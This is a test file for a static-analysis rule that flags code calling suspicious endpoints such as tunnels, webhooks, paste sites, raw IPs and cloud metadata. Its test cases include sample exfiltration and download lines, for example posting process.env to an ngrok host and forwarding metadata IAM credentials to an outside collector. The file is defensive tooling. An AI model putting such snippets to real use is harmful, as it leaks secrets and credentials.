import rule from '../../rules/suspicious-endpoint.js';
import { ruleTester } from '../rule-tester.js';
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { analyze } from '../../analyzer/engine.js';
import { resolvePolicy } from '../../policy/index.js';

function severities(code: string, profile: 'strict' | 'audit'): string[] {
  const report = analyze(code, { filename: 'x.js', policy: resolvePolicy({ profile }), rules: [rule] });
  return report.findings.filter((f) => f.ruleId === rule.id).map((f) => f.severity);
}

describe('suspicious-endpoint severities', () => {
  it('warns for a bare request and errors when secrets or a download go through it', () => {
    assert.deepEqual(severities('fetch("https://abc.ngrok.io/ping");', 'audit'), ['warn']);
    assert.deepEqual(severities('fetch("https://abc.ngrok.io/c", { method: "POST", body: JSON.stringify(process.env) });', 'audit'), ['error']);
    assert.deepEqual(severities('require("child_process").execSync("curl -o /tmp/x http://203.0.113.9/x");', 'audit'), ['error']);
    assert.deepEqual(
      severities('const https = require("https"), fs = require("fs");\nhttps.get("https://transfer.sh/abc/x.bin", (r) => r.pipe(fs.createWriteStream("x.bin")));', 'audit'),
      ['error'],
    );
  });
  it('warns for metadata access, errors when the file also talks to another host', () => {
    assert.deepEqual(severities('fetch("http://169.254.169.254/latest/meta-data/iam/security-credentials/");', 'audit'), ['warn']);
    assert.deepEqual(
      severities('const c = fetch("http://169.254.169.254/latest/meta-data/iam/security-credentials/role");\nfetch("https://collector.example.com/u", { method: "POST", body: c });', 'audit'),
      ['error'],
    );
  });
});

ruleTester(rule, {
  valid: [
    'fetch("https://api.github.com/repos/x/y"); fetch("https://registry.npmjs.org/left-pad");',
    'fetch("http://localhost:3000/api"); fetch("http://127.0.0.1:8080"); fetch("http://192.168.1.10/status"); fetch("http://10.0.0.5");',
    'const docs = "see https://webhook.site for testing"; // fetch("https://abc.ngrok.io")',
    'const u = "https://pastebin.com/raw/abc"; console.log(u);',
    'fetch(process.env.WEBHOOK_URL, { method: "POST", body: JSON.stringify({ text: "build ok" }) });',
    'fetch("https://example.xyz.cdn.example.com/a.js"); fetch("/relative/path");',
    'require("net").connect(5432, "db.internal.example.com");',
    'const version = "1.2.3.4"; console.log(version);',
  ],
  invalid: [
    { code: 'fetch("https://abc123.ngrok-free.app/collect");', errors: [{ messageId: 'endpoint', line: 1, column: 1, message: 'tunnelling' }] },
    { code: 'const h = "webho" + "ok.site";\nfetch(`https://${h}/5f1c`, { method: "POST", body: "x" });', errors: [{ messageId: 'endpoint', line: 2, column: 1, message: 'webhook.site' }] },
    { code: 'require("https").get("https://203.0.113.50:8443/p");', errors: [{ messageId: 'endpoint', line: 1, column: 1, message: 'raw public IP' }] },
    { code: 'require("net").connect(4444, "198.51.100.23");', errors: [{ messageId: 'endpoint', line: 1, column: 1 }] },
    { code: 'require("https").request({ hostname: "x.oast.fun", method: "POST" }).end("d");', errors: [{ messageId: 'endpoint', line: 1, column: 1, message: 'OAST' }] },
    { code: 'const axios = require("axios");\naxios.post("https://discord.com/api/webhooks/123/abc", { content: "hi" });', errors: [{ messageId: 'endpoint', line: 2, column: 1, message: 'Discord webhook' }] },
    { code: 'fetch(`https://api.telegram.org/bot${BOT}/sendMessage?chat_id=1&text=x`);', errors: [{ messageId: 'endpoint', line: 1, column: 1, message: 'Telegram' }] },
    { code: 'new WebSocket("wss://evil-c2.top/ws");', errors: [{ messageId: 'endpoint', line: 1, column: 1, message: 'TLD' }] },
    { code: 'navigator.sendBeacon("https://x.pipedream.net", data);', errors: [{ messageId: 'endpoint', line: 1, column: 1 }] },
    { code: 'const x = new XMLHttpRequest();\nx.open("GET", "https://pastebin.com/raw/Ab12Cd");\nx.send();', errors: [{ messageId: 'endpoint', line: 2, column: 1, message: 'paste' }] },
    { code: 'require("child_process").exec("curl -s https://transfer.sh/get/abc/p.sh -o /tmp/p.sh");', errors: [{ messageId: 'endpoint', line: 1, column: 1, message: 'file-sharing' }] },
    { code: 'fetch("http://169.254.169.254/latest/meta-data/iam/security-credentials/");', errors: [{ messageId: 'cloudMetadata', line: 1, column: 1 }] },
    { code: 'require("dns").lookup("x.burpcollaborator.net", cb);', errors: [{ messageId: 'endpoint', line: 1, column: 1 }] },
    { code: 'new Image().src = "https://bit.ly/3xYz";', errors: [{ messageId: 'endpoint', line: 1, column: 1, message: 'shortener' }] },
    { code: 'fetch("https://api.ipify.org?format=json");', errors: [{ messageId: 'endpoint', line: 1, column: 1, message: 'public-IP lookup' }] },
    { code: 'const host = ["in", "teract", ".sh"].join("");\nrequire("https").get({ host: "c." + host, path: "/" });', errors: [{ messageId: 'endpoint', line: 2, column: 1 }] },
  ],
});
